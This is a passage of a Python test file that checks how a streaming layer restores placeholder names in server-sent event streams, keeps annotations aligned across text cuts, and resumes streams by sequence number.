    assert not machine.finished
    machine.feed(stream[last:])
    assert machine.finished


def test_annotations_that_come_with_the_pieces_of_a_text_move_with_it_for_every_cut() -> None:
    text = f"Dear {PERSON}, see [1], {DOCTOR} [2]."
    rows = [
        {"index": n, "text": mark, "start_index": text.index(mark), "end_index": text.index(mark) + 3}
        for n, mark in enumerate(("[1]", "[2]"))
    ]
    for pieces in cuts(text, 2):
        out, at = [], 0
        for piece in pieces:
            at += len(piece)
            due = [row for row in rows if at - len(piece) < row["end_index"] <= at]
            content = [{"index": 0, "type": "text", "text": {"value": piece, "annotations": due}}]
            delta = {"id": "m", "object": "thread.message.delta", "delta": {"content": content}}
            out.append(sse("thread.message.delta", delta))
        out.append(
            sse("thread.message.delta", {**delta, "delta": {"content": [{"index": 0, "type": "text", "text": {"annotations": rows}}]}})
        )
        events = [json.loads(e.partition(b"data: ")[2]) for e in restored_stream("assistants", out).split(b"\n\n")[:-1]]
        said = [event["delta"]["content"][0]["text"] for event in events]
        whole = "".join(one.get("value", "") for one in said)
        assert whole == f"Dear {MARIA}, see [1], Dr. Maria Singh [2]."
        moved = [row for one in said for row in one.get("annotations", ())]
        assert len(moved) == 4
        assert all(whole[row["start_index"] : row["end_index"]] == row["text"] for row in moved), pieces


RESUMABLE = {
    **{path.stem: read_golden(path)[1] for path in golden() if path.name.startswith("responses_")},
    "pieces": STREAM["responses"](
        [(("content", 0, 0), f"a {PERSON[:9]}"), (("arguments", 0, 0), '{"a": "PERS'), (("content", 0, 0), PERSON[9:])]
    ),
}


@pytest.mark.parametrize("name", RESUMABLE)
def test_the_rest_of_a_stream_is_what_the_whole_one_says_behind_that_number(name: str) -> None:
    whole = restored_stream("responses", [RESUMABLE[name]])
    events = [event + b"\n\n" for event in whole.split(b"\n\n")[:-1]]
    numbers = [json.loads(event.partition(b"data: ")[2]).get("sequence_number") for event in events]
    for number in range(-1, len(events) + 1):
        due = b"".join(event for at, event in zip(numbers, events, strict=True) if at is None or at > number)
        for size in (1, 50, len(whole)):
            behind = Behind(STREAMED["responses"].stream, number)
            out = b"".join(behind.feed(whole[at : at + size]) for at in range(0, len(whole), size))
            assert out + behind.finish(b"") == due, (number, size)


def test_comments_and_what_cannot_be_read_before_a_number_fall_away_and_errors_do_not() -> None:
    behind = Behind(STREAMED["responses"].stream, 1)
    assert behind.feed(b": hello\n\n" + sse("x", {"sequence_number": 0}) + b"data: {\n\n" + sse("x", {"sequence_number": 1})) == b""
    error = sse("error", {"type": "error", "message": "gone"})
    assert behind.feed(error + b": hello\n\n") == error + b": hello\n\n"
    cut = Behind(STREAMED["responses"].stream, 0)
    assert cut.finish(b'data: {"sequence_number": 1}') == b'data: {"sequence_number": 1}'


def test_the_end_of_a_step_leaves_a_message_open() -> None:
    def piece(text: str) -> bytes:
        delta = {"content": [{"index": 0, "type": "text", "text": {"value": text}}]}
        return sse("thread.message.delta", {"id": "m", "object": "thread.message.delta", "delta": delta})

    step = sse("thread.run.step.completed", {"id": "s", "object": "thread.run.step", "type": "tool_calls", "completed_at": 1712345678})
    assert MARIA.encode() in restored_stream("assistants", [piece(PERSON[:9]), step, piece(PERSON[9:]), sse("done", "[DONE]")])
